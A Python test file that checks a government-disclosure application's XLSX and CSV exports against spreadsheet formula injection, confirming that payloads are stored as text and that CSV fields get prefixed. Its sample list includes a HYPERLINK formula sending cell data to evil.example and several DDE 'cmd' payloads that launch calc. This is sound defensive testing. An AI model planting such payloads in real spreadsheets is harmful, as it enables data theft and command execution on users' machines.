"""Every spreadsheet the product writes is inert: text that begins like a formula (=, +, -, @, tab,
CR) is written as text, read back from the file itself; numbers stay numbers."""

import csv
import io
import pathlib

from openpyxl import load_workbook

from engine import sheets
from tests.support.information_requests import Staff
from tests.support.workplan import add_staff

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
ROOT = pathlib.Path(__file__).resolve().parents[2]


def _assert_text(cell, expected):
    assert cell.value == expected
    assert cell.data_type == "s", (expected, cell.data_type)  # 'f' would be a live formula


def test_the_work_plan_export_writes_formula_like_text_as_text(settings, api_as):
    add_staff()
    office = Staff(api_as, settings.secret_key)("office1")
    preview = office.post("/api/workplans/import", json={"text": "一、公开\n（一）预算公开。（县财政局负责，年底前完成）",
                                                          "year": 2026}).get_json()["rows"]
    rows = [{**preview[0], "task": text} for text in ATTACKS]
    resp = office.post("/api/workplans", json={"year": 2026, "title": "=1+1", "rows": rows})
    assert resp.status_code == 201, resp.get_json()
    book = load_workbook(io.BytesIO(office.get(f"/api/workplans/{resp.get_json()['id']}/export.xlsx").data))
    sheet = book.active
    _assert_text(sheet["A1"], "=1+1")
    tasks = [row for row in sheet.iter_rows(min_row=3) if isinstance(row[0].value, int)]
    assert [row[0].value for row in tasks] == list(range(1, len(ATTACKS) + 1))  # numbers stay numbers
    for row, text in zip(tasks, ATTACKS, strict=True):
        _assert_text(row[1], text.strip())  # the plan keeps the text without its outer blanks


def test_the_annual_report_export_writes_an_agency_name_like_a_formula_as_text(settings, api_as):
    staff = Staff(api_as, settings.secret_key)
    admin = staff("admin")
    office = next(d for d in admin.get("/api/departments").get_json()["items"] if d["name"] == "办公室")
    resp = admin.patch(f"/api/departments/{office['id']}", json={"agency_name": "=cmd|' /C calc'!A0",
                                                                 "agency_kind": "department"})
    assert resp.status_code == 200, resp.get_json()
    xlsx = staff("publisher1").get(f"/api/reports/annual/2025?format=xlsx&agency={office['id']}")
    assert xlsx.status_code == 200, xlsx.get_json()
    book = load_workbook(io.BytesIO(xlsx.data))
    for sheet in book.worksheets[:3]:
        _assert_text(sheet["A1"], "=cmd|' /C calc'!A0" + "2025年度政府信息公开工作年度报告")
    assert not [c for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
    counts = book["按月统计"]
    assert [c.value for c in counts[2]][:2] == [1, 0] and counts["B2"].data_type == "n"


def test_csv_fields_are_quoted_and_prefixed_as_owasp_recommends_and_negative_numbers_stay_numbers():
    text = sheets.csv_text([["标题", "金额", "说明"], *[[attack, -5, "-5"] for attack in ATTACKS], ["正常", 3.5, "-x"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in rows[1:-1]] == ["'" + a for a in ATTACKS]
    assert all(r[1] == "-5" and r[2] == "-5" for r in rows[1:-1])
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(""http')  # quoted, inner quotes doubled
    assert ',-5,"-5"' in text.splitlines()[1]  # the number unquoted; the text "-5" quoted but not prefixed
    assert rows[-1] == ["正常", "3.5", "'-x"]


def test_every_module_that_writes_a_spreadsheet_goes_through_the_helper():
    writers = [p for folder in ("engine", "web", "workers") for p in (ROOT / folder).rglob("*.py")
               if any(w in p.read_text() for w in ("Workbook(", "csv.writer(", "csv.DictWriter("))
               and p.name != "sheets.py"]
    assert writers, "the exports moved: update this test"
    for path in writers:
        source = path.read_text()
        assert "sheets." in source, path
        assert ".append([" not in source.replace("sheets.append(", ""), path
